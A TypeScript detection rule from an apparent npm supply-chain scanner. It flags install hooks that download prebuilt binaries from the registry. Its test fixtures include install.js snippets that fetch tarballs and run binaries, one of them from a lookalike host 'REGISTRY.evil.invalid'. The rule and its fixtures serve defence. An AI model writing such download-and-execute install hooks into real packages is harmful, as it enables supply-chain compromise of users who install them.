import { sees } from '../../facts/artifact-facts';
import { hooks, isPlatformDownload, sightings } from '../traces';
import type { Rule } from '../rule';
import { OF_PLATFORMS } from '../sample-manifests';

export const hookPlatformDownload: Rule = {
  code: 'hook-platform-download',
  ecosystem: 'npm',
  kind: 'install-hook',
  severity: 'medium',
  verdict: 'warning',
  tactic: 'command-and-control',
  capabilities: ['network', 'subprocess'],
  languages: ['javascript', 'python', 'shell', 'gyp'],
  summary:
    'An install hook can fetch its own prebuilt binary from the package registry, beside the optional packages that carry it.',
  judge: (facts) =>
    sightings(hooks(facts), 'can fetch its own prebuilt binary from the registry', (trace) =>
      isPlatformDownload(trace, facts) ? sees(trace, 'network', 'package-manager') : undefined,
    ),
  samples: {
    hits: [
      {
        what: 'its own binary out of the registry',
        format: 'tarball',
        manifest: OF_PLATFORMS,
        files: {
          'install.js':
            'const https = require("https"); const pkg = pick(); https.get(`https://REGISTRY/${pkg}/-/x-${v}.tgz`, save); require("child_process").execFileSync(bin, ["--version"])',
        },
        verdict: 'warning',
      },
    ],
    ignores: [
      {
        what: 'the same from elsewhere',
        format: 'tarball',
        manifest: OF_PLATFORMS,
        files: {
          'install.js':
            'const https = require("https"); https.get(`https://cdn.invalid/${pkg}/-/x-${v}.tgz`, save); require("child_process").execFileSync(bin, ["--version"])',
        },
        why: 'Another host is not the registry; harsher rules speak.',
        verdict: 'suspicious',
        speaks: ['hook-network', 'hook-subprocess'],
      },
      {
        what: 'the same from an address made to look like it',
        format: 'tarball',
        manifest: OF_PLATFORMS,
        files: {
          'install.js':
            'const https = require("https"); https.get(`https://REGISTRY.evil.invalid/${pkg}`, save)',
        },
        why: 'The host only begins like the registry; harsher rules speak.',
        verdict: 'suspicious',
        speaks: ['hook-network'],
      },
    ],
  },
};
